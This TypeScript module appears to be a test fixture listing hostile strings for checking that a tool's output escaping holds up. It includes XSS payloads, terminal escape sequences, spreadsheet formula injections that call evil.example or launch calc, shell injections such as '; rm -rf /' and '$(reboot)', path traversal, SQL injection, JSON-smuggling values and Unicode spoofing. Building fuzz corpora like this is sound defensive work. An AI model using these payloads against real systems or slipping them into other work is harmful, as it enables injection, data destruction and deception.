/** What attackers name things: every string is one that some format, reader or terminal has fallen for. */
export const hostileStrings: readonly string[] = [
  ...new Set([...controls(), ...invisible(), ...markup(), ...formulas(), ...structure()]),
];

/** Every control character, alone and within a word. */
function controls(): string[] {
  const codes = [...range(0x00, 0x1f), 0x7f, ...range(0x80, 0x9f)];
  return [
    ...codes.map((code) => `a${String.fromCodePoint(code)}b`),
    '\x1b[2J\x1b[H',
    '\x1b[31mCRITICAL\x1b[0m',
    '\x1b]0;title\x07',
    '\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\',
    '\x1bP1$r0m\x1b\\',
    '\x1b[6n',
    '\x9b31m',
    '\x9d0;title\x9c',
    'one\r\ntwo',
    '\rCoverage  complete',
    'a\b\b\b\bpass',
    '\n::set-output name=x::y',
    '\n##[error]no',
  ];
}

/** What reorders text, or takes no room. */
function invisible(): string[] {
  const codes = [
    ...range(0x200b, 0x200f),
    ...range(0x202a, 0x202e),
    ...range(0x2060, 0x2064),
    ...range(0x2066, 0x2069),
    ...[0xad, 0x34f, 0x61c, 0x115f, 0x180e, 0x2028, 0x2029, 0x3164, 0xfe0f, 0xfeff, 0xffa0],
    ...[0xfff9, 0xfffb, 0xe0001, 0xe0041],
  ];
  return [
    ...codes.map((code) => `logs${String.fromCodePoint(code)}prod`),
    'user\u202etxt.exe',
    '\u2067bucket\u2069',
    '\ud800',
    'a\udc00b',
    '\udfff\ud800',
    'раураl',
    'Z͑ͫ̓ͪa̷l̶g̵o̴',
    '🏴‍☠️',
    'مرحبا',
  ];
}

function markup(): string[] {
  return [
    '<script>alert(1)</script>',
    '</script><script>alert(1)</script>',
    '</style><script>alert(1)</script>',
    '</title><script>alert(1)</script>',
    '<!--<script>',
    '--><script>alert(1)</script>',
    '<!--castellan:data-->',
    '<!--castellan:static-->',
    '<!--castellan:title-->',
    '<img src=x onerror=alert(1)>',
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '<svg/onload=alert(1)>',
    '<iframe src=javascript:alert(1)>',
    '<a href="javascript:alert(1)">x</a>',
    'javascript:alert(1)',
    'JaVaScRiPt:alert(1)',
    'data:text/html,<script>alert(1)</script>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '<base href=//evil.example>',
    '<meta http-equiv=refresh content=0>',
    '<form action=//evil.example><input>',
    '<style>*{display:none}</style>',
    '<link rel=stylesheet href=//evil.example>',
    '<math><mi xlink:href="data:x"></mi></math>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<![CDATA[<script>]]>',
    ']]>',
    '<?xml version="1.0"?>',
    '&lt;script&gt;',
    '&#60;script&#62;',
    '&amp;amp;',
    '\u003cscript\u003e',
    '{{constructor.constructor("alert(1)")()}}',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: it is what somebody would try
    '${alert(1)}',
    '[click](javascript:alert(1))',
    '![x](https://evil.example/x.png)',
    '`code` **bold** | cell |',
    '@everyone #1',
    '$&$`$1',
    '<!channel> <@U1>',
  ];
}

function formulas(): string[] {
  const starts = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];
  return [
    ...starts.map((start) => `${start}1+1`),
    ...['=', '+', '-', '@'].flatMap((start) => [` ${start}1`, `\ufeff${start}1`, `\n${start}1`]),
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example","x")',
    '=IMPORTXML("https://evil.example","//a")',
    '@SUM(1+1)*cmd|x!A0',
    "'=1+1",
    '\u00a0=1+1',
    '"=1+1"',
    ',=1+1',
    '\r\n=1+1',
  ];
}

/** What data formats use for themselves. */
function structure(): string[] {
  return [
    '',
    ' ',
    '"',
    '""',
    "'",
    '\\',
    '\\"',
    '\\u0000',
    '\\ud800',
    '","verdict":"pass',
    '"}],"findings":[]}',
    'a,b',
    'a;b',
    'a\tb',
    '"a"",""b"',
    '\n',
    '\r\n"fake","row"\r\n',
    '{"finding":null}',
    '__proto__',
    'constructor',
    'toString',
    '$unknown',
    'null',
    'undefined',
    'NaN',
    'true',
    '0',
    '-0',
    '1e999',
    '../../etc/passwd',
    'CON',
    '%00',
    '%s%n',
    '$(reboot)',
    '`reboot`',
    '; rm -rf /',
    "' OR 1=1 --",
    'x'.repeat(5000),
    `${'<b>'.repeat(200)}`,
  ];
}

function range(from: number, to: number): number[] {
  return Array.from({ length: to - from + 1 }, (_, index) => from + index);
}
